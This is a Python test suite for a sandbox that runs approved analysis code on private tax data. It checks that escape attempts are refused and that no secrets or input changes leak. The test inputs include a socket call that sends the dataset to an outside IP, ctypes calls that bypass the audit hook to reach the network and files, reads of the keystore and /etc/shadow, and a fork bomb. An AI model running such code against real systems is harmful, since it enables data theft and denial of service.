"""Isolated execution: approved code runs on the private data; every escape is a named refusal and leaks
nothing (the secret of the node's files never appears, the input data is unchanged, no process stays)."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pandas as pd
import pytest

from protocols.sandbox.errors import (
    CodeHashMismatch,
    SandboxCpuExceeded,
    SandboxError,
    SandboxFileDenied,
    SandboxMemoryExceeded,
    SandboxNetworkDenied,
    SandboxOutputRefused,
    SandboxProcessLimit,
    SandboxTimeout,
    SandboxWriteDenied,
)
from protocols.sandbox.isolate import SandboxLimits, code_sm3, run_isolated
from protocols.sandbox.output_policy import OutputPolicy, check_release
from tests.sandbox.conftest import SECRET

pytestmark = pytest.mark.usefixtures("clean_sandbox")


def _digest(p: Path) -> str:
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _refused(code: str, private_csv: Path, limits: SandboxLimits, error: type[SandboxError]) -> SandboxError:
    """Run ``code`` (approved as it is), expect ``error``, and check that the data did not change."""
    before = _digest(private_csv)
    with pytest.raises(error) as got:
        run_isolated(code, code_sm3(code), "analysis", {"tax": private_csv}, limits)
    assert type(got.value) is error
    assert SECRET not in str(got.value)
    assert _digest(private_csv) == before
    return got.value


def test_approved_code_runs_on_private_data(private_csv: Path, limits: SandboxLimits) -> None:
    code = (
        "def analysis(tax):\n"
        "    g = tax.groupby('sector').agg(count=('uscc', 'size'), mean_vat=('vat_paid', 'mean'))\n"
        "    return g.reset_index()\n"
    )
    got = run_isolated(code, code_sm3(code), "analysis", {"tax": private_csv}, limits)
    df = pd.read_csv(private_csv)
    want = df.groupby("sector").agg(count=("uscc", "size"), mean_vat=("vat_paid", "mean")).reset_index()
    table = got.result["table"]
    assert table["columns"] == ["sector", "count", "mean_vat"]
    assert [r[0] for r in table["data"]] == want["sector"].tolist()
    assert [r[1] for r in table["data"]] == want["count"].tolist()
    assert [r[2] for r in table["data"]] == pytest.approx(want["mean_vat"].tolist())
    assert got.code_sm3 == code_sm3(code)
    assert 0 < got.wall_seconds < limits.wall_seconds


def test_runs_as_an_unprivileged_uid_without_capabilities(private_csv: Path, limits: SandboxLimits) -> None:
    code = (
        "def analysis(tax):\n"
        "    import os\n"
        "    status = open('/proc/self/status').read()\n"
        "    caps = [l.split()[1] for l in status.splitlines() if l.startswith(('CapEff', 'CapPrm'))]\n"
        "    return {'uid': os.getuid(), 'caps': caps, 'root_listing': sorted(os.listdir('/'))}\n"
    )
    got = run_isolated(code, code_sm3(code), "analysis", {"tax": private_csv}, limits).result
    assert got["uid"] != 0
    assert got["caps"] == ["0000000000000000", "0000000000000000"]
    assert "etc" not in got["root_listing"] and "home" not in got["root_listing"]


def test_code_changed_after_approval_never_runs(private_csv: Path, limits: SandboxLimits, tmp_path: Path) -> None:
    approved = "def analysis(tax):\n    return {'n': int(len(tax))}\n"
    marker = tmp_path / "ran"
    changed = approved.replace("return", f"open({str(marker)!r}, 'w').write('x')\n    return")
    with pytest.raises(CodeHashMismatch):
        run_isolated(changed, code_sm3(approved), "analysis", {"tax": private_csv}, limits)
    assert not marker.exists()


def test_opening_a_socket_is_refused(private_csv: Path, limits: SandboxLimits) -> None:
    code = (
        "def analysis(tax):\n"
        "    import socket\n"
        "    s = socket.create_connection(('93.184.216.34', 80), timeout=2)\n"
        "    s.sendall(tax.to_csv().encode())\n"
    )
    _refused(code, private_csv, limits, SandboxNetworkDenied)


def test_network_is_absent_even_past_the_audit_hook(private_csv: Path, limits: SandboxLimits) -> None:
    # ctypes calls libc's socket/connect directly; the network namespace is what refuses
    code = (
        "def analysis(tax):\n"
        "    import ctypes, ctypes.util, socket, struct\n"
        "    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    fd = libc.socket(2, 1, 0)\n"
        "    addr = struct.pack('=H', 2) + struct.pack('!H4s8x', 80, socket.inet_aton('93.184.216.34'))\n"
        "    rc = libc.connect(fd, addr, len(addr))\n"
        "    return {'rc': rc, 'errno': ctypes.get_errno()}\n"
    )
    import errno

    got = run_isolated(code, code_sm3(code), "analysis", {"tax": private_csv}, limits).result
    assert got["rc"] == -1 and got["errno"] == errno.ENETUNREACH


@pytest.mark.parametrize("which", ["db", "keystore"])
def test_reading_the_node_database_or_keystore_is_refused(
    which: str, private_csv: Path, limits: SandboxLimits, node_files: dict[str, Path]
) -> None:
    code = f"def analysis(tax):\n    return open({str(node_files[which])!r}).read()\n"
    err = _refused(code, private_csv, limits, SandboxFileDenied)
    assert str(node_files[which]) in str(err)


def test_the_node_files_do_not_exist_in_the_sandbox(
    private_csv: Path, limits: SandboxLimits, node_files: dict[str, Path]
) -> None:
    # past the audit hook (libc open): the files are simply not mounted
    code = (
        "def analysis(tax):\n"
        "    import ctypes\n"
        "    libc = ctypes.CDLL(None, use_errno=True)\n"
        f"    paths = [{str(node_files['db'])!r}, {str(node_files['keystore'])!r}, '/etc/shadow', {__file__!r}]\n"
        "    return [[libc.open(p.encode(), 0), ctypes.get_errno()] for p in paths]\n"
    )
    got = run_isolated(code, code_sm3(code), "analysis", {"tax": private_csv}, limits)
    assert got.result == [[-1, 2]] * 4  # ENOENT for each
    assert SECRET not in got.stdout + got.stderr


def test_reading_outside_the_mounts_is_refused(private_csv: Path, limits: SandboxLimits) -> None:
    code = "def analysis(tax):\n    import os\n    return os.listdir('/work') + [open('/etc/hostname').read()]\n"
    _refused(code, private_csv, limits, SandboxFileDenied)


def test_writing_the_input_data_is_refused(private_csv: Path, limits: SandboxLimits) -> None:
    code = "def analysis(tax):\n    open('/data/tax.csv', 'a').write('x,y,z\\n')\n"
    _refused(code, private_csv, limits, SandboxWriteDenied)


def test_writing_the_input_data_past_the_hook_hits_a_read_only_mount(private_csv: Path, limits: SandboxLimits) -> None:
    code = (
        "def analysis(tax):\n"
        "    import ctypes\n"
        "    libc = ctypes.CDLL(None, use_errno=True)\n"
        "    return [libc.open(b'/data/tax.csv', 1), ctypes.get_errno()]\n"
    )
    import errno

    before = hashlib.sha256(private_csv.read_bytes()).hexdigest()
    got = run_isolated(code, code_sm3(code), "analysis", {"tax": private_csv}, limits)
    assert got.result[0] == -1 and got.result[1] in (errno.EACCES, errno.EROFS)  # not its file; read-only mount
    assert hashlib.sha256(private_csv.read_bytes()).hexdigest() == before


def test_a_fork_bomb_is_stopped(private_csv: Path, limits: SandboxLimits) -> None:
    code = "def analysis(tax):\n    import os\n    while True:\n        os.fork()\n"
    _refused(code, private_csv, limits, SandboxProcessLimit)


def test_a_2_gib_allocation_is_refused(private_csv: Path, limits: SandboxLimits) -> None:
    code = "def analysis(tax):\n    block = bytearray(2 << 30)\n    return {'n': len(block)}\n"
    _refused(code, private_csv, limits, SandboxMemoryExceeded)


def test_an_endless_loop_is_stopped_at_its_cpu_limit(private_csv: Path, limits: SandboxLimits) -> None:
    code = "def analysis(tax):\n    while True:\n        pass\n"
    err = _refused(code, private_csv, limits, SandboxCpuExceeded)
    assert isinstance(err, SandboxTimeout)


def test_a_sleeping_run_is_stopped_at_its_wall_clock_limit(private_csv: Path) -> None:
    code = "def analysis(tax):\n    import time\n    time.sleep(600)\n"
    short = SandboxLimits(wall_seconds=8.0)
    _refused(code, private_csv, short, SandboxTimeout)


def test_output_past_the_size_limit_is_refused(private_csv: Path, limits: SandboxLimits) -> None:
    code = "def analysis(tax):\n    return 'x' * (1 << 20)\n"
    _refused(code, private_csv, limits, SandboxOutputRefused)


def test_printing_the_raw_rows_is_caught_by_the_output_policy(private_csv: Path, limits: SandboxLimits) -> None:
    code = (
        "def analysis(tax):\n"
        "    print(tax.to_string())\n"
        "    return {'n': int(len(tax))}\n"
    )
    got = run_isolated(code, code_sm3(code), "analysis", {"tax": private_csv}, limits)
    df = pd.read_csv(private_csv)
    assert df["uscc"].iloc[0] in got.stdout  # the run printed them; nothing is released yet
    with pytest.raises(SandboxOutputRefused, match="unified social credit code"):
        check_release(got.result, got.stdout, OutputPolicy(), len(df), df["uscc"])


def test_returning_the_raw_rows_is_caught_by_the_output_policy(private_csv: Path, limits: SandboxLimits) -> None:
    code = "def analysis(tax):\n    return tax.drop(columns=['uscc'])\n"
    got = run_isolated(code, code_sm3(code), "analysis", {"tax": private_csv}, limits)
    df = pd.read_csv(private_csv)
    with pytest.raises(SandboxOutputRefused, match="row-level"):
        check_release(got.result, got.stdout, OutputPolicy(), len(df), df["uscc"])
